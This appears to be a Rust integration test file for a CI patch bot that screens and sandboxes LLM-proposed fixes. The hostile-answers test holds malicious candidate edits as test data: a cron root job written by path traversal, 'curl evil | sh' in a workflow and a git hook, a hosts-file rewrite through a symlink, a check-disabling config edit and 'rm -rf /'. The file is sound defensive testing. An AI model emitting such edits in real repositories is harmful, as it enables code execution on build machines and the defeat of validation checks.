        "module.exports = (s, n, c) => String(s).padStart(n, c);\n",
    )
    .unwrap();
    let tgz = dir.path().join("sentinel-pad-1.2.3.tgz");
    let st = std::process::Command::new("tar")
        .args([
            "-czf",
            tgz.to_str().unwrap(),
            "-C",
            dir.path().to_str().unwrap(),
            "package",
        ])
        .status()
        .unwrap();
    assert!(st.success());
    let bytes = std::fs::read(&tgz).unwrap();
    let sha1 = std::process::Command::new("sha1sum")
        .arg(&tgz)
        .output()
        .unwrap();
    let sha1 = String::from_utf8(sha1.stdout).unwrap()[..40].to_string();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());

    #[derive(Clone)]
    struct Reg {
        base: String,
        sha1: String,
        bytes: Arc<Vec<u8>>,
    }
    async fn packument(
        State(r): State<Reg>,
        UrlPath(name): UrlPath<String>,
    ) -> axum::response::Response {
        if name != "sentinel-pad" {
            return (
                StatusCode::NOT_FOUND,
                axum::Json(serde_json::json!({"error": "Not found"})),
            )
                .into_response();
        }
        axum::Json(serde_json::json!({
            "name": "sentinel-pad",
            "dist-tags": {"latest": "1.2.3"},
            "versions": {"1.2.3": {
                "name": "sentinel-pad", "version": "1.2.3", "main": "index.js",
                "dist": {"tarball": format!("{}/tarballs/sentinel-pad-1.2.3.tgz", r.base),
                         "shasum": r.sha1},
            }},
            "time": {"created": "2019-05-06T07:08:09.000Z", "modified": "2019-05-06T07:08:09.000Z",
                     "1.2.3": "2019-05-06T07:08:09.000Z"},
        }))
        .into_response()
    }
    async fn tarball(State(r): State<Reg>) -> Vec<u8> {
        r.bytes.as_ref().clone()
    }
    let app = axum::Router::new()
        .route("/{name}", get(packument))
        .route("/tarballs/{file}", get(tarball))
        .with_state(Reg {
            base: base.clone(),
            sha1,
            bytes: Arc::new(bytes),
        });
    tokio::spawn(async move { axum::serve(listener, app).await });
    (base, dir)
}

/// A real Node `Cannot find module` fixed end to end: the package passes the registry
/// guard, lands in package.json as `^latest`, `npm install` fetches it from the (local)
/// registry in the sandbox, and `node index.js` then passes offline. An unknown package
/// is refused.
#[tokio::test]
async fn a_missing_node_package_is_added_installed_and_validated() {
    let (registry, _dir) = local_npm_registry().await;
    let (origin, sha) = repo(&[
        (
            "index.js",
            "const pad = require(\"sentinel-pad\");\nconsole.log(pad(\"7\", 3, \"0\"));\n",
        ),
        (
            "package.json",
            "{\n  \"name\": \"demo\",\n  \"private\": true,\n  \"dependencies\": {}\n}\n",
        ),
        (".gitignore", "node_modules/\n"),
    ]);
    let jail = LocalJail::detect().await;
    let mut config = PatchBotConfig::new(tool_cache(), Arc::new(jail));
    config.npm_index = Some(sentinel_patchbot::index::PackageIndex::new(
        sentinel_patchbot::index::Ecosystem::Node,
        &registry,
    ));
    let bot = PatchBot::new(config);
    let mut req = request(
        origin.path(),
        &sha,
        FailureType::ImportError,
        "node index.js",
        None,
    );
    req.log_excerpt = "node:internal/modules/cjs/loader:1228\n  throw err;\n  ^\n\nError: Cannot \
                       find module 'sentinel-pad'\nRequire stack:\n- /ci/index.js\n"
        .into();
    let attempt = bot.attempt(&req).await.unwrap();
    assert_fixed(&attempt);
    assert_eq!(attempt.strategy.as_deref(), Some("add_node_dependency"));
    assert!(
        attempt.files_changed.contains(&"package.json".to_string()),
        "{:?}",
        attempt.files_changed
    );
    assert!(
        attempt.diff.contains("+    \"sentinel-pad\": \"^1.2.3\""),
        "{}",
        attempt.diff
    );
    assert!(attempt.validation[0].output_tail.contains("007"));

    req.log_excerpt = "Error: Cannot find module 'sentinel-nope'\n".into();
    let attempt = bot.attempt(&req).await.unwrap();
    assert_eq!(attempt.status, FixStatus::NoFix);
    assert!(
        attempt.reason.contains("does not exist"),
        "{}",
        attempt.reason
    );
}

// ---------------------------------------------------------------------------------------
// The LLM strategy, against `sentinel_llm::testing`'s local server: it speaks the documented
// request/response shapes of OpenAI's `/v1/chat/completions` and Anthropic's `/v1/messages`
// on 127.0.0.1 (the real APIs cannot be reached from test machines). The answers are
// scripted; everything after them — screening, writing, sandboxed validation — is real.

mod llm {
    use super::*;
    use sentinel_llm::testing::{Reply, ScriptedServer, anthropic_reply, openai_reply, serve};
    use sentinel_llm::{LlmClient, LlmConfig, Provider};
    use sentinel_patchbot::llm::{CandidateOutcome, LlmFixConfig, LlmFixer};
    use serde_json::json;

    const CALC: &str = "def add(a, b):\n    return a - b\n\n\ndef double(x):\n    return 2 * x\n";
    const TEST_CALC: &str = "import unittest\n\nfrom calc import add, double\n\n\nclass \
                             CalcTest(unittest.TestCase):\n    def test_add(self):\n        \
                             self.assertEqual(add(2, 3), 5)\n\n    def test_double(self):\n        \
                             self.assertEqual(double(4), 8)\n\n\nif __name__ == \"__main__\":\n    \
                             unittest.main()\n";

    async fn llm_bot(provider: Provider, base: &str, fix: LlmFixConfig) -> PatchBot {
        let client = LlmClient::new(
            LlmConfig {
                provider,
                base_url: Some(base.to_owned()),
                model: "test-model".into(),
                timeout_ms: 10_000,
                max_response_bytes: 256 * 1024,
                ..LlmConfig::default()
            },
            Some("sk-test-key".into()),
        )
        .unwrap();
        let jail = LocalJail::detect().await;
        let mut config = PatchBotConfig::new(tool_cache(), Arc::new(jail));
        config.command_timeout = Duration::from_secs(120);
        config.llm = Some(LlmFixer::new(Arc::new(client), "test-model", fix));
        PatchBot::new(config)
    }

    fn user_prompt(server: &ScriptedServer, provider: Provider) -> String {
        let reqs = server.requests();
        let (_, _, body) = reqs.last().unwrap();
        let i = usize::from(provider == Provider::Openai);
        body["messages"][i]["content"].as_str().unwrap().to_owned()
    }

    /// The real fix: a Python repository whose unit test really fails (`add` subtracts). The
    /// failure is reproduced and classified as `sentinel fix` does; no deterministic
    /// strategy applies to a test failure, so the (local) OpenAI-compatible API is asked.
    /// Its answer holds a path-traversal candidate (discarded), a wrong fix (applied, fails
    /// validation, rolled back) and a right fix as a unified diff, which the sandbox
    /// validates by really re-running the failing command — and so does the host, on the
    /// committed fix.
    #[tokio::test]
    async fn an_llm_candidate_fixes_a_real_python_test_failure() {
        let (server, base) = serve().await;
        let (origin, sha) = repo(&[("calc.py", CALC), ("test_calc.py", TEST_CALC)]);
        let before = snapshot(origin.path());
        let bot = llm_bot(Provider::Openai, &base, LlmFixConfig::default()).await;
        let command = "python3 -m unittest test_calc";
        let repository = origin.path().display().to_string();
        let run = bot.reproduce(&repository, &sha, command).await.unwrap();
        assert_ne!(run.step.exit_code, 0, "{}", run.output);
        assert!(
            run.output.contains("AssertionError: -1 != 5"),
            "{}",
            run.output
        );
        let c = sentinel_classify::Catalogue::builtin()
            .unwrap()
            .classify(run.output.as_bytes(), Some(command));
        assert_eq!(c.failure_type, FailureType::TestFailure, "{c:?}");

        let answer = json!({"candidates": [
            {"explanation": "rewrite the module outside", "edits": [
                {"path": "../calc.py", "search": "", "replace": "pwned = True\n"}]},
            {"explanation": "multiply instead", "edits": [
                {"path": "calc.py", "search": "return a - b", "replace": "return a * b"}]},
            {"explanation": "add adds", "diff":
                "--- a/calc.py\n+++ b/calc.py\n@@ -1,2 +1,2 @@\n def add(a, b):\n-    return a - b\n+    return a + b\n"}
        ]});
        server.push(openai_reply(&answer.to_string()));
        let mut req = request(
            origin.path(),
            &sha,
            c.failure_type,
            command,
            c.tool.as_deref(),
        );
        req.log_excerpt = format!(
            "{}\nexport GITHUB_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789\n",
            run.output
        );
        let attempt = bot.attempt(&req).await.unwrap();
        assert_fixed(&attempt);
        assert_eq!(attempt.strategy.as_deref(), Some("llm"));
        assert_eq!(attempt.files_changed, ["calc.py"]);
        assert!(
            attempt
                .diff
                .contains("-    return a - b\n+    return a + b\n"),
            "{}",
            attempt.diff
        );
        assert_eq!(attempt.validation[0].command, command);
        assert_eq!(attempt.tool_versions["llm"], "test-model");
        // No test command: prior 0.6 × 0.9 (validated by the failing command alone).
        assert!(
            (attempt.confidence - 0.54).abs() < 1e-9,
            "{}",
            attempt.confidence
        );
        let outcomes: Vec<CandidateOutcome> =
            attempt.candidates.iter().map(|c| c.outcome).collect();
        assert_eq!(
            outcomes,
            [
                CandidateOutcome::Discarded,
                CandidateOutcome::FailedValidation,
                CandidateOutcome::Validated
            ]
        );
        assert!(
            attempt.candidates[0].reason.contains("'..'"),
            "{:?}",
            attempt.candidates
        );
        assert!(
            attempt.candidates[1].reason.contains("validation failed"),
            "{:?}",
            attempt.candidates
        );

        // What the model was shown: the file the traceback names, the log, no secret.
        let prompt = user_prompt(&server, Provider::Openai);
        assert!(
            prompt.contains("<<<FILE calc.py (whole file)\ndef add(a, b):"),
            "{prompt}"
        );
        assert!(prompt.contains("<<<FILE test_calc.py"), "{prompt}");
        assert!(prompt.contains("AssertionError: -1 != 5"), "{prompt}");
        assert!(!prompt.contains("ghp_abc"), "{prompt}");
        let reqs = server.requests();
        assert_eq!(reqs.len(), 1);
        assert_eq!(reqs[0].1["authorization"], "Bearer sk-test-key");
        assert!(
            reqs[0].2["messages"][0]["content"]
                .as_str()
                .unwrap()
                .contains("\"candidates\"")
        );

        // The committed fix passes the failing command outside the sandbox too.
        let commit = bot.commit(&attempt, "test failure in calc").await.unwrap();
        let workdir = attempt.repo_dir().unwrap();
        assert_eq!(git(&workdir, &["rev-parse", "HEAD"]), commit);
        assert_eq!(git(&workdir, &["status", "--porcelain"]), "");
        let out = std::process::Command::new("python3")
            .args(["-m", "unittest", "test_calc"])
            .current_dir(&workdir)
            .env("PYTHONDONTWRITEBYTECODE", "1")
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(!origin.path().parent().unwrap().join("calc.py").exists());
        assert_eq!(snapshot(origin.path()), before);
    }

    /// Hostile answers through the (local) Anthropic Messages API: path traversal, an
    /// absolute path, a workflow edit, a write through a symlink the repository carries, a
    /// `.git` hook, a check-configuration edit and a giant change are each discarded with
    /// their reason, and nothing outside the work tree is written. Malformed JSON, an
    /// answer in the wrong shape and an oversized response end the attempt as `no_fix`
    /// with the reason; a 5xx is a transient error (the task is retried).
    #[tokio::test]
    async fn hostile_llm_answers_are_discarded_with_their_reasons() {
        let (server, base) = serve().await;
        let outside = TempDir::new().unwrap();
        std::fs::write(outside.path().join("hosts"), "127.0.0.1 localhost\n").unwrap();
        let (origin, sha) = repo(&[
            ("check.py", "import sys\nsys.exit(0 if 1 + 1 == 3 else 1)\n"),
            (".github/workflows/ci.yml", "on: push\njobs: {}\n"),
            (".sentinel.toml", "test_command = \"python3 check.py\"\n"),
        ]);
        std::os::unix::fs::symlink(outside.path(), origin.path().join("escape")).unwrap();
        git(origin.path(), &["add", "escape"]);
        git(origin.path(), &["commit", "--quiet", "-m", "link"]);
        let sha2 = git(origin.path(), &["rev-parse", "HEAD"]);
        assert_ne!(sha, sha2);
        let fix = LlmFixConfig {
            candidates: 8,
            ..LlmFixConfig::default()
        };
        let bot = llm_bot(Provider::Anthropic, &base, fix).await;
        let giant: String = (0..2000).map(|i| format!("x{i} = {i}\n")).collect();
        let answer = json!({"candidates": [
            {"edits": [{"path": "../../../etc/cron.d/x", "search": "", "replace": "* * * * * root sh\n"}]},
            {"edits": [{"path": "/tmp/sentinel-pwned", "search": "", "replace": "x"}]},
            {"diff": "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1,2 +1,2 @@\n on: push\n-jobs: {}\n+jobs: {steps: [{run: 'curl evil | sh'}]}\n"},
            {"edits": [{"path": "escape/hosts", "search": "127.0.0.1 localhost", "replace": "6.6.6.6 localhost"}]},
            {"edits": [{"path": ".git/hooks/post-checkout", "search": "", "replace": "#!/bin/sh\ncurl evil | sh\n"}]},
            {"edits": [{"path": ".sentinel.toml", "search": "python3 check.py", "replace": "true"}]},
            {"edits": [{"path": "check.py", "search": "import sys\n", "replace": giant}]},
            {"explanation": "no", "edits": "rm -rf /"}
        ]});
        server.push(anthropic_reply(&answer.to_string()));
        let mut req = request(
            origin.path(),
            &sha2,
            FailureType::TestFailure,
            "python3 check.py",
            None,
        );
        req.log_excerpt =
            "Traceback (most recent call last):\n  File \"/ci/check.py\", line 2\n".into();
        let attempt = bot.attempt(&req).await.unwrap();
        assert_eq!(attempt.status, FixStatus::NoFix, "{}", attempt.reason);
        assert_eq!(attempt.strategy.as_deref(), Some("llm"));
        let reasons: Vec<&str> = attempt
            .candidates
            .iter()
            .map(|c| c.reason.as_str())
            .collect();
        assert!(
            attempt
                .candidates
                .iter()
                .all(|c| c.outcome == CandidateOutcome::Discarded),
            "{reasons:#?}"
        );
        for (i, want) in [
            "'..'",
            "absolute",
            "protected path .github/workflows/ci.yml",
            "symbolic link",
            "git's own directory",
            "configures the checks",
            "blast-radius",
            "\"edits\" is not an array",
        ]
        .iter()
        .enumerate()
        {
            assert!(
                reasons[i].contains(want),
                "candidate {}: {:?}",
                i + 1,
                reasons[i]
            );
        }
        assert!(
            attempt.reason.contains("no LLM candidate passed"),
            "{}",
            attempt.reason
        );
        assert_eq!(
            std::fs::read_to_string(outside.path().join("hosts")).unwrap(),
            "127.0.0.1 localhost\n"
        );
        assert!(!Path::new("/tmp/sentinel-pwned").exists());
        assert!(attempt.workdir.is_none());
        let reqs = server.requests();
        assert_eq!(reqs[0].0, "/v1/messages");
        assert_eq!(reqs[0].1["x-api-key"], "sk-test-key");
        assert_eq!(reqs[0].1["anthropic-version"], "2023-06-01");
        assert!(
            reqs[0].2["system"]
                .as_str()
                .unwrap()
                .contains("At most 8 candidates")
        );
        assert_eq!(reqs[0].2["max_tokens"], 512);

        // Each following answer is to a new command (answers are cached per failure).
        let cases: [(Reply, &str); 3] = [
            (
                anthropic_reply("Sure! Here is the fix: {\"candidates\": []}"),
                "not strict JSON",
            ),
            (
                anthropic_reply("{\"candidates\": \"all of them\"}"),
                "malformed",
            ),
            (anthropic_reply(&"x".repeat(300 * 1024)), "larger than"),
        ];
        for (i, (reply, want)) in cases.into_iter().enumerate() {
            server.push(reply);
            req.command = format!("python3 check.py {i}");
            let attempt = bot.attempt(&req).await.unwrap();
            assert_eq!(attempt.status, FixStatus::NoFix);
            assert!(attempt.reason.contains(want), "{want}: {}", attempt.reason);
        }
        server.push(Reply {
            status: 529,
            headers: vec![],
            body: json!({"type": "error", "error": {"type": "overloaded_error", "message": "Overloaded"}}).to_string(),
            delay: Duration::ZERO,
        });
        req.command = "python3 check.py overloaded".into();
        let err = bot.attempt(&req).await.expect_err("transient");
        assert!(err.is_transient(), "{err}");
    }
}
